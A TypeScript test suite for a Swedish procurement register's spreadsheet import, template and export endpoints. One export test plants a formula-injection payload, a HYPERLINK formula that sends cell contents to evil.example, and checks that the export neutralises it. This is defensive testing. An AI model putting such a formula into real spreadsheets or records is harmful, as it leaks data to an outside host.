import { and, eq, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditEvents, memberships, procurements, units } from '../../../db/schema/index.js';
import { EXPORT_ONLY_COLUMNS, PROCUREMENT_COLUMNS } from '../../../interop/spreadsheet/procurement-sheet.js';
import {
  createOrganisation,
  createTestApp,
  createUser,
  login,
  TEST_PASSWORD,
  validProcurement,
  type Session,
  type TestContext,
} from '../../../../tests/support/factories.js';

let ctx: TestContext;
let org: Awaited<ReturnType<typeof createOrganisation>>;
let other: Awaited<ReturnType<typeof createOrganisation>>;
let coordinator: Session;
let otherCoordinator: Session;
let responsibleEmail: string;

const HEADERS = PROCUREMENT_COLUMNS.map((c) => c.header);

beforeAll(async () => {
  ctx = await createTestApp();
  org = await createOrganisation(ctx.db, { slug: 'goteborg' });
  other = await createOrganisation(ctx.db, { slug: 'boras' });
  await ctx.db.insert(units).values({ organisationId: org.id, code: 'ONLY-GBG', name: 'Bara i Göteborg' });
  const user = await createUser(ctx.db, org.id, ['coordinator']);
  responsibleEmail = user.email;
  // The same person works for both organisations, so a round trip keeps the responsible person.
  await ctx.db.insert(memberships).values({ userId: user.id, organisationId: other.id, role: 'coordinator' });
  coordinator = await login(ctx.app, user.email, TEST_PASSWORD, 'goteborg');
  otherCoordinator = await login(ctx.app, (await createUser(ctx.db, other.id, ['coordinator'])).email);
});
afterAll(() => ctx.close());

function multipart(filename: string, content: Buffer, field = 'file') {
  const boundary = `----hansyn${Math.random().toString(16).slice(2)}`;
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${field}"; filename="${filename}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
    content,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return { payload, headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

function upload(session: Session, filename: string, content: Buffer, query = '') {
  return session.request({ method: 'POST', url: `/api/procurements/import${query}`, ...multipart(filename, content) });
}

async function xlsxOf(rows: unknown[][]): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('Upphandlingar');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

let serial = 0;
/** A valid row in template column order. */
function row(overrides: Partial<Record<(typeof PROCUREMENT_COLUMNS)[number]['key'], unknown>> = {}): unknown[] {
  const values: Record<string, unknown> = {
    referenceNumber: `IMP-${Date.now().toString(36)}-${serial++}`,
    title: 'Lokalvård i förskolor',
    description: 'Städning av tolv förskolor',
    unitCode: 'U1',
    responsibleEmail: '',
    contractNature: 'Tjänster',
    mainCpv: '90911200',
    additionalCpv: '90919200',
    estimatedValueOre: '1 234 567,89',
    contractStart: new Date(Date.UTC(2027, 3, 1)),
    durationMonths: 24,
    extensionMonths: 12,
    procedureType: 'Öppet',
    labourNeedFte: '6,5',
    ...overrides,
  };
  return PROCUREMENT_COLUMNS.map((c) => values[c.key]);
}

async function countProcurements(organisationId: string): Promise<number> {
  const [r] = await ctx.db.select({ n: sql<number>`count(*)::int` }).from(procurements).where(eq(procurements.organisationId, organisationId));
  return Number(r!.n);
}

describe('POST /api/procurements/import', () => {
  it('stores every row of a valid file, each with an audit event', async () => {
    const before = await countProcurements(org.id);
    const rows = [row({ responsibleEmail: responsibleEmail.toUpperCase() }), row({ unitCode: 'u2', contractNature: 'works', mainCpv: '45214200', additionalCpv: '' }), row()];
    const response = await upload(coordinator, 'register.xlsx', await xlsxOf([HEADERS, ...rows]));
    expect(response.statusCode, response.body).toBe(200);
    expect(response.json()).toEqual({ created: 3, dryRun: false });
    expect(await countProcurements(org.id)).toBe(before + 3);

    const [stored] = await ctx.db.select().from(procurements).where(eq(procurements.referenceNumber, rows[0]![0] as string));
    expect(stored).toMatchObject({
      title: 'Lokalvård i förskolor',
      unitId: org.unit.id,
      estimatedValueOre: 123_456_789,
      contractStart: '2027-04-01',
      durationMonths: 24,
      extensionMonths: 12,
      procedureType: 'open',
      labourNeedFte: 6.5,
      additionalCpv: ['90919200'],
      status: 'planned',
    });
    expect(stored!.responsibleUserId).not.toBeNull();
    const audit = await ctx.db
      .select()
      .from(auditEvents)
      .where(and(eq(auditEvents.organisationId, org.id), eq(auditEvents.action, 'procurement.imported')));
    expect(audit.map((a) => a.entityId)).toEqual(expect.arrayContaining([stored!.id]));
    expect(audit.length).toBeGreaterThanOrEqual(3);
  });

  it('answers 422 naming row 3 and the column "Huvud-CPV" for a bad CPV code, and stores nothing', async () => {
    const before = await countProcurements(org.id);
    const response = await upload(coordinator, 'register.xlsx', await xlsxOf([HEADERS, row(), row({ mainCpv: '12345678' }), row()]));
    expect(response.statusCode).toBe(422);
    expect(response.headers['content-type']).toContain('application/problem+json');
    expect(response.json()).toMatchObject({
      code: 'import_invalid',
      status: 422,
      errors: [{ row: 3, column: 'Huvud-CPV', code: 'unknown_cpv', message: expect.stringContaining('12345678') }],
    });
    expect(await countProcurements(org.id)).toBe(before);
  });

  it('reports duplicate reference numbers within the file and against the register', async () => {
    const [existing] = await ctx.db.select({ ref: procurements.referenceNumber }).from(procurements).where(eq(procurements.organisationId, org.id)).limit(1);
    const response = await upload(
      coordinator,
      'register.xlsx',
      await xlsxOf([HEADERS, row({ referenceNumber: 'DUP-1' }), row({ referenceNumber: 'DUP-1' }), row({ referenceNumber: existing!.ref })]),
    );
    expect(response.statusCode).toBe(422);
    expect(response.json().errors).toEqual([
      { row: 3, column: 'Diarienummer', code: 'duplicate_in_file', message: 'Reference number DUP-1 is also on row 2.' },
      { row: 4, column: 'Diarienummer', code: 'duplicate', message: expect.any(String) },
    ]);
  });

  it('checks without storing on a dry run', async () => {
    const before = await countProcurements(org.id);
    const response = await upload(coordinator, 'register.xlsx', await xlsxOf([HEADERS, row(), row()]), '?dryRun=true');
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ created: 0, dryRun: true });
    expect(await countProcurements(org.id)).toBe(before);
    const invalid = await upload(coordinator, 'register.xlsx', await xlsxOf([HEADERS, row({ durationMonths: 'två år' })]), '?dryRun=true');
    expect(invalid.statusCode).toBe(422);
    expect(invalid.json().errors[0]).toMatchObject({ row: 2, column: 'Löptid (mån)', code: 'invalid_number' });
  });

  it('lists every problem of a row in one dry run: unknown unit and CPV code beside a bad amount and date (issue 11)', async () => {
    const csv = [HEADERS.join(';'), row({ unitCode: 'NOPE', mainCpv: '12345678', estimatedValueOre: '1,234.56', contractStart: '2027-02-30' }).join(';')].join('\n');
    const response = await upload(coordinator, 'register.csv', Buffer.from(csv), '?dryRun=true');
    expect(response.statusCode).toBe(422);
    expect(response.json().errors.map((e: { row: number; column: string; code: string }) => [e.row, e.column, e.code])).toEqual([
      [2, 'Enhet (kod)', 'unknown_unit'],
      [2, 'Huvud-CPV', 'unknown_cpv'],
      [2, 'Uppskattat värde (SEK)', 'invalid_amount'],
      [2, 'Planerad start', 'invalid_date'],
    ]);
  });

  it("treats another organisation's unit codes and people as unknown", async () => {
    const response = await upload(otherCoordinator, 'register.xlsx', await xlsxOf([HEADERS, row({ unitCode: 'ONLY-GBG' }), row({ responsibleEmail: 'nobody@test.example' })]));
    expect(response.statusCode).toBe(422);
    expect(response.json().errors).toEqual([
      { row: 2, column: 'Enhet (kod)', code: 'unknown_unit', message: 'No unit with code "ONLY-GBG" in your organisation.' },
      { row: 3, column: 'Ansvarig (e-post)', code: 'unknown_user', message: expect.any(String) },
    ]);
  });

  it('lets a procurer limited to a unit import only rows for that unit', async () => {
    const procurer = await login(ctx.app, (await createUser(ctx.db, org.id, [{ role: 'procurer', unitId: org.unit.id }])).email);
    const response = await upload(procurer, 'register.xlsx', await xlsxOf([HEADERS, row({ unitCode: 'U1' }), row({ unitCode: 'U2' })]));
    expect(response.statusCode).toBe(422);
    expect(response.json().errors).toEqual([{ row: 3, column: 'Enhet (kod)', code: 'unit_not_yours', message: expect.any(String) }]);
    expect((await upload(procurer, 'register.xlsx', await xlsxOf([HEADERS, row({ unitCode: 'U1' })]))).statusCode).toBe(200);
  });

  it('refuses a viewer with 403 before reading the file', async () => {
    const viewer = await login(ctx.app, (await createUser(ctx.db, org.id, ['viewer'])).email);
    const response = await upload(viewer, 'register.xlsx', await xlsxOf([HEADERS, row()]));
    expect(response.statusCode).toBe(403);
    expect(response.json().code).toBe('forbidden');
  });

  it('reads a semicolon CSV from Swedish Excel in Windows-1252 with English code-name headers', async () => {
    const ref = `CSV-${Date.now()}`;
    const csv = [
      PROCUREMENT_COLUMNS.map((c) => c.code).join(';'),
      [ref, 'Snöröjning i Västra Hisingen', '', 'U2', '', 'Tjänster', '90620000', '', '2 500 000,50', '2027-01-01', '36', '', 'Selektivt förfarande', '3,5'].join(';'),
    ].join('\r\n');
    const response = await upload(coordinator, 'register.csv', Buffer.from(csv, 'latin1'));
    expect(response.statusCode, response.body).toBe(200);
    const [stored] = await ctx.db.select().from(procurements).where(eq(procurements.referenceNumber, ref));
    expect(stored).toMatchObject({ title: 'Snöröjning i Västra Hisingen', unitId: org.otherUnit.id, estimatedValueOre: 250_000_050, procedureType: 'restricted', labourNeedFte: 3.5 });
  });

  it('answers an unedited template with a clear 422 and imports nothing', async () => {
    for (const format of ['xlsx', 'csv'] as const) {
      const template = await coordinator.get(`/api/procurements/import-template.${format}`);
      expect(template.statusCode).toBe(200);
      const response = await upload(coordinator, `mall.${format}`, template.rawPayload);
      expect(response.statusCode).toBe(422);
      expect(response.json().errors).toEqual([{ row: 2, column: '', code: 'no_rows', message: expect.stringContaining('no procurements') }]);
    }
  });

  it('refuses files that are not spreadsheets (415) and requests without a file (400/415)', async () => {
    expect((await upload(coordinator, 'register.xlsx', Buffer.from('not a zip'))).statusCode).toBe(415);
    expect((await upload(coordinator, 'old.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]))).statusCode).toBe(415);
    expect((await upload(coordinator, 'bild.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]))).statusCode).toBe(415);
    expect((await coordinator.post('/api/procurements/import', { file: 'x' })).statusCode).toBe(415);
    const wrongField = await coordinator.request({ method: 'POST', url: '/api/procurements/import', ...multipart('a.csv', Buffer.from('a;b'), 'upload') });
    expect(wrongField.statusCode).toBe(400);
  });
});

describe('templates', () => {
  it('serves an xlsx template: empty data sheet first, instructions and unit codes after', async () => {
    const response = await coordinator.get('/api/procurements/import-template.xlsx');
    expect(response.headers['content-type']).toContain('spreadsheetml');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="importmall-upphandlingar-goteborg-\d{4}-\d{2}-\d{2}\.xlsx"/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(response.rawPayload as unknown as ExcelJS.Buffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Upphandlingar', 'Instruktioner', 'Enheter']);
    expect(wb.worksheets[0]!.getRow(1).values).toEqual([undefined, ...HEADERS]);
    expect(wb.worksheets[0]!.actualRowCount).toBe(1);
    const help = wb.getWorksheet('Instruktioner')!;
    expect(help.getCell('B10').value).toBe('estimatedValueSek');
    const unitCodes = wb.getWorksheet('Enheter')!.getColumn(1).values.slice(2);
    expect(unitCodes).toEqual(['ONLY-GBG', 'U1', 'U2']);
  });

  it('serves a CSV template with the header line only, UTF-8 with BOM and semicolons', async () => {
    const response = await coordinator.get('/api/procurements/import-template.csv');
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(response.rawPayload.subarray(3).toString('utf8')).toBe(`${HEADERS.join(';')}\r\n`);
  });
});

describe('export', () => {
  it('exports the same rows in the same order as the list, with the same filters', async () => {
    const list = await coordinator.get(`/api/procurements?unitId=${org.otherUnit.id}&sort=referenceNumber&pageSize=500`);
    const response = await coordinator.get(`/api/procurements/export.csv?unitId=${org.otherUnit.id}&sort=referenceNumber`);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toMatch(/filename="upphandlingar-goteborg-\d{4}-\d{2}-\d{2}\.csv"/);
    const lines = response.rawPayload.subarray(3).toString('utf8').trimEnd().split('\r\n');
    expect(lines[0]).toBe([...HEADERS, ...EXPORT_ONLY_COLUMNS.map((c) => c.header)].join(';'));
    expect(lines.slice(1).map((l) => l.split(';')[0])).toEqual(list.json().items.map((i: { referenceNumber: string }) => i.referenceNumber));
    expect(list.json().total).toBeGreaterThan(0);
    expect((await coordinator.get('/api/procurements/export.xlsx?pageSize=5')).statusCode).toBe(400);
  });

  it('neutralises text that a spreadsheet would run as a formula, in both formats', async () => {
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")';
    const created = await otherCoordinator.post('/api/procurements', validProcurement(other.unit.id, { title, referenceNumber: '@SUM(1)' }));
    expect(created.statusCode).toBe(201);
    const csv = (await otherCoordinator.get('/api/procurements/export.csv?q=klicka')).rawPayload.toString('utf8');
    expect(csv).toContain(`;"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Klicka här"")";`);
    expect(csv).toContain(`\r\n'@SUM(1);`);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await otherCoordinator.get('/api/procurements/export.xlsx?q=klicka')).rawPayload as unknown as ExcelJS.Buffer);
    const sheet = wb.worksheets[0]!;
    expect(sheet.getCell('B2').value).toBe(`'${title}`);
    expect(sheet.getCell('A2').value).toBe(`'@SUM(1)`);
    expect(sheet.getCell('B2').formula).toBeUndefined();
  });

  it('round-trips: an export imported into another organisation reproduces the rows', async () => {
    const source = await createOrganisation(ctx.db, { slug: `kalla-${Date.now()}` });
    const target = await createOrganisation(ctx.db, { slug: `mal-${Date.now()}` });
    const sourceUser = await createUser(ctx.db, source.id, ['coordinator']);
    await ctx.db.insert(memberships).values({ userId: sourceUser.id, organisationId: target.id, role: 'coordinator' });
    const session = await login(ctx.app, sourceUser.email, TEST_PASSWORD, source.slug);
    const inputs = [
      validProcurement(source.unit.id, { responsibleUserId: sourceUser.id, estimatedValueOre: 123_456_789, labourNeedFte: 6.55, title: '-Minus först' }),
      validProcurement(source.otherUnit.id, {
        contractNature: 'works',
        mainCpv: '45214200',
        additionalCpv: [],
        // Left out rather than null: the API's Ajv coercion turns a null integer into 0.
        estimatedValueOre: undefined,
        contractStart: undefined,
        durationMonths: undefined,
        extensionMonths: undefined,
        procedureType: 'neg-wo-call',
        labourNeedFte: undefined,
        description: 'Rad ett\nRad två; med "citat"',
      }),
      validProcurement(source.unit.id, { contractNature: 'supplies', mainCpv: '09310000', additionalCpv: ['30213000', '39130000'], estimatedValueOre: 1 }),
    ];
    for (const input of inputs) {
      const created = await session.post('/api/procurements', input);
      expect(created.statusCode, created.body).toBe(201);
    }
    const sourceExport = await session.get('/api/procurements/export.xlsx?sort=referenceNumber');
    expect(sourceExport.statusCode).toBe(200);

    const targetSession = await login(ctx.app, sourceUser.email, TEST_PASSWORD, target.slug);
    const imported = await upload(targetSession, sourceExport.headers['content-disposition']!.match(/filename="([^"]+)"/)![1]!, sourceExport.rawPayload);
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toEqual({ created: 3, dryRun: false });

    const csvOf = async (s: Session) => (await s.get('/api/procurements/export.csv?sort=referenceNumber')).rawPayload.toString('utf8');
    const sourceCsv = await csvOf(session);
    const targetCsv = await csvOf(targetSession);
    // The responsible person only survives where the same e-mail is a member of the target.
    const withoutResponsible = (csv: string) => csv.replaceAll(sourceUser.email, '');
    expect(withoutResponsible(targetCsv)).toBe(withoutResponsible(sourceCsv));
    expect(sourceCsv).toContain('1234567,89');
    expect(sourceCsv).toContain(`'-Minus först`);
  });

  it('adds the status, the screening and the decision after the template columns (issue 11 item 8)', async () => {
    const created = await coordinator.post('/api/procurements', validProcurement(org.unit.id, { referenceNumber: 'EXP-DECIDED', title: 'Beslutad export' }));
    expect(created.statusCode).toBe(201);
    const justification = 'Stödfunktionen bedömer att det saknas kandidater i branschen just nu.';
    const decided = await coordinator.request({ method: 'PUT', url: `/api/procurements/${created.json().id}/decision`, payload: { kind: 'none', requirements: [], justification } });
    expect(decided.statusCode, decided.body).toBe(200);
    const csv = (await coordinator.get('/api/procurements/export.csv?q=EXP-DECIDED')).rawPayload.subarray(3).toString('utf8').trimEnd().split('\r\n');
    const header = csv[0]!.split(';');
    const row = csv[1]!.split(';');
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('Status')).toBe('Planerad');
    expect(cell('Granskning')).toMatch(/^Sysselsättningskrav rekommenderas|^Behöver bedömas/);
    expect(cell('Beslut om sociala krav')).toBe('Inga sociala krav');
    expect(cell('Beslutsdatum')).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(cell('Motivering (inga krav)')).toBe(justification);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await coordinator.get('/api/procurements/export.xlsx?q=EXP-DECIDED')).rawPayload as unknown as ExcelJS.Buffer);
    const sheet = wb.worksheets[0]!;
    const headers = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(headers.slice(-EXPORT_ONLY_COLUMNS.length)).toEqual(EXPORT_ONLY_COLUMNS.map((c) => c.header));
    expect(sheet.getRow(2).getCell(headers.indexOf('Beslut om sociala krav') + 1).value).toBe('Inga sociala krav');
  });

  it('leaves out the responsible person for those who may not read personal data', async () => {
    const viewer = await login(ctx.app, (await createUser(ctx.db, org.id, ['viewer'])).email);
    const csv = (await viewer.get('/api/procurements/export.csv')).rawPayload.toString('utf8');
    expect(csv).not.toContain(responsibleEmail);
    expect((await coordinator.get('/api/procurements/export.csv')).rawPayload.toString('utf8')).toContain(responsibleEmail);
  });
});
